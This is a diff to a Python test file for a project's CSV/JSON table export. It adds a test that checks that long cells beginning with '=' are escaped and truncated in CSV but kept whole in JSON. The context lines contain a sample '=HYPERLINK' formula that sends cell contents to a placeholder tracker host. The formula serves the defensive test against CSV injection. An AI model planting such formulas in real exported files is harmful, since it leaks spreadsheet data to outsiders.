@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import json
 from concurrent.futures import ThreadPoolExecutor
 from typing import Any
 from uuid import uuid4
@@ -15,7 +16,7 @@ import pytest
 from folkmoot.errors import InvalidInput
 from folkmoot.store.paging import Page
 from folkmoot.web import tables
-from folkmoot.web.tables import as_file
+from folkmoot.web.tables import LONGEST_CELL, as_file
 from support.fixtures import NewAgent, NewBlock
 
 FORMULA = '=HYPERLINK("https://tracker.invalid/?"&A1)'
@@ -115,6 +116,13 @@ def test_no_cell_is_a_formula(begins: str) -> None:
     row: dict[str, Any] = {"id": f"{begins}1+1", "number": -1}
     body = bytes(as_file("x", "csv", ("id", "number"), [row]).body).decode()
     assert list(csv.reader(io.StringIO(body, newline=""))) == [["id", "number"], [f"'{begins}1+1", "-1"]]
+
+
+def test_a_text_is_cut_in_a_cell_and_whole_in_json() -> None:
+    row = {"id": "x", "what": "=" + "y" * 200_000}
+    [_, cells] = csv.reader(io.StringIO(bytes(as_file("x", "csv", ("id", "what"), [row]).body).decode(), newline=""))
+    assert cells == ["x", f"'={'y' * (LONGEST_CELL - 3)}…"]
+    assert json.loads(bytes(as_file("x", "json", ("id", "what"), [row]).body)) == [row]
 
 
 def test_a_list_is_whole_or_refused(monkeypatch: pytest.MonkeyPatch) -> None:
